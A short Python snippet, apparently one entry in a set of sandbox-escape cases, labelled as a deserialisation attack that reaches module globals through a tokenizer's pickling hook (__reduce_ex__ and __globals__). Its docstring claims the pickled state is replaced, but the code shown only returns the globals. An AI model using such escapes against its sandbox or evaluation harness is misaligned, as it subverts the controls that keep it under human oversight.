"""Class: deserialisation. Source: own find. Escape: the tokenizer's pickled state is read and
replaced.
"""


def attack(model, tokenizer, address):
    return tokenizer.backend_tokenizer.__reduce_ex__(2)[0].__globals__
